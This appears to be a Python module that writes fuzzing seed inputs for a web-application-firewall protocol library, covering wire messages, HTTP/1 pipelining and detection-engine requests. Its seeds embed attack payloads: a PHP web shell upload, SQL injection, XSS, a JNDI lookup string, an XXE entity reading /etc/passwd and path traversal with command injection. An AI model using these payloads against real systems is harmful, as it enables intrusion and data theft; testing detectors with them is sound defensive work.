"""The seed corpora: a few well-formed inputs per target, so the fuzzers start from messages
that reach deep into the parsers. `python -m tests.fuzz.seeds` writes them to
tests/fuzz/corpus/<target>/seed-<name> (committed); the first two bytes of each are the
target's Choices (targets.py): decoder / flags, and the split seed.
"""

from __future__ import annotations

import gzip
from pathlib import Path

from wallarm_wire.protocol import (AttackInfo, RequestMessage, ResponseMessage, Verdict, encode_request,
                                   encode_response)

CORPUS = Path(__file__).resolve().parent / "corpus"

_HEADERS = [(b"Host", b"shop.example"), (b"User-Agent", b"Mozilla/5.0"), (b"Cookie", b"sid=1; theme=dark")]
_MULTIPART = (b'--B\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\nContent-Type: text/plain\r\n\r\n'
              b"<?php system($_GET['c']); ?>\r\n--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--B--\r\n")


def _request(method: str, target: str, extra: list[tuple[bytes, bytes]], body: bytes = b"") -> bytes:
    return encode_request(RequestMessage(method, target, [*_HEADERS, *extra], body))


def _http(*requests: bytes) -> bytes:
    return b"".join(requests)


SEEDS: dict[str, dict[str, bytes]] = {
    "wire": {
        "request": b"\x00\x00" + _request("POST", "/api?id=1", [(b"X-Folded", b"a")], b'{"a":1}'),
        "request-folded": b"\x00\x00GET / HTTP/1.1\nHost: a\nX-F: a\n b\n\tc\n\nbody",
        "response": b"\x01\x00" + encode_response(ResponseMessage(200, [(b"Content-Type", b"text/html")], b"<p>", "OK")),
        "msgtype": b"\x02\x00message/http; msgtype=\"response\"; x=y",
        "verdict": b"\x03\x00" + Verdict("a" * 32, "block", "block", [AttackInfo("sqli", "query.id", "sqli.1",
                                                                                   "1 or 1=1", 12)], "attack").to_json(),
        "chunked": b"\x04\x05" + b"5;ext=1\r\nhello\r\n1\r\n!\r\n0\r\nX-T: v\r\n\r\n",
        "chunked-round-trip": b"\x05\x03" + b"a body cut into chunks" * 3,
    },
    "http1": {
        "pipelined": b"\x03\x01" + _http(
            b"POST /v1 HTTP/1.1\r\nHost: node\r\nContent-Length: 5\r\n\r\nhello",
            b"POST /v1 HTTP/1.1\r\nHost: node\r\nTransfer-Encoding: chunked\r\n\r\n5;x\r\nhello\r\n0\r\nT: v\r\n\r\n",
            b"POST /v1 HTTP/1.0\r\nContent-Length: 0\r\n\r\n"),
        "expect-later-paused": b"\x1a\x02" + _http(
            b"POST / HTTP/1.1\r\nHost: node\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\nabc",
            b"POST / HTTP/1.1\r\nHost: node\r\nContent-Length: 2\r\n\r\nde",
            b"POST / HTTP/1.1\r\nHost: node\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"),
        "small-limit": b"\x22\x03POST / HTTP/1.1\r\nHost: node\r\nContent-Length: 100\r\n\r\n" + b"x" * 100,
    },
    "engine": {
        "json": _request("POST", "/api/users?id=1%27%20or%201%3D1", [(b"Content-Type", b"application/json")],
                         b'{"name": "<script>alert(1)</script>", "tags": [{"q": "${jndi:ldap://x/a}"}]}'),
        "form-gzip": _request("POST", "/login", [(b"Content-Type", b"application/x-www-form-urlencoded"),
                                                 (b"Content-Encoding", b"gzip")], gzip.compress(b"u=admin&p=%27--", mtime=0)),
        "multipart": _request("POST", "/upload", [(b"Content-Type", b"multipart/form-data; boundary=B")], _MULTIPART),
        "xml": _request("POST", "/soap", [(b"Content-Type", b"text/xml; charset=utf-8")],
                        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a x="1">&e;</a>'),
        "get": _request("GET", "/../../etc/passwd?q=;cat%20/etc/passwd&x=%u003c", [(b"Referer", b"javascript:1")]),
        "utf16-json": _request("POST", "/j", [(b"Content-Type", b"application/json; charset=utf-16")],
                               '{"a": "1 union select 1"}'.encode("utf-16")),
    },
    "endpoint": {  # flags: bit 0 response, 1 async, 5 forwarded host, 6 forwarded client
        "request-block": b"\x00\x00" + _request("GET", "/?q=1%27%20or%201=1--", []),
        "request-monitoring-async": b"\x62\x01" + _request("POST", "/f", [(b"Content-Type", b"application/json")],
                                                          b'{"a": "<script>"}'),
        "response": b"\x01\x00" + encode_response(ResponseMessage(500, [], b"You have an error in your SQL syntax")),
    },
}


def main() -> None:
    for target, seeds in SEEDS.items():
        (CORPUS / target).mkdir(parents=True, exist_ok=True)
        for name, data in seeds.items():
            (CORPUS / target / f"seed-{name}").write_bytes(data)
    print(f"wrote {sum(map(len, SEEDS.values()))} seeds under {CORPUS}")


if __name__ == "__main__":
    main()
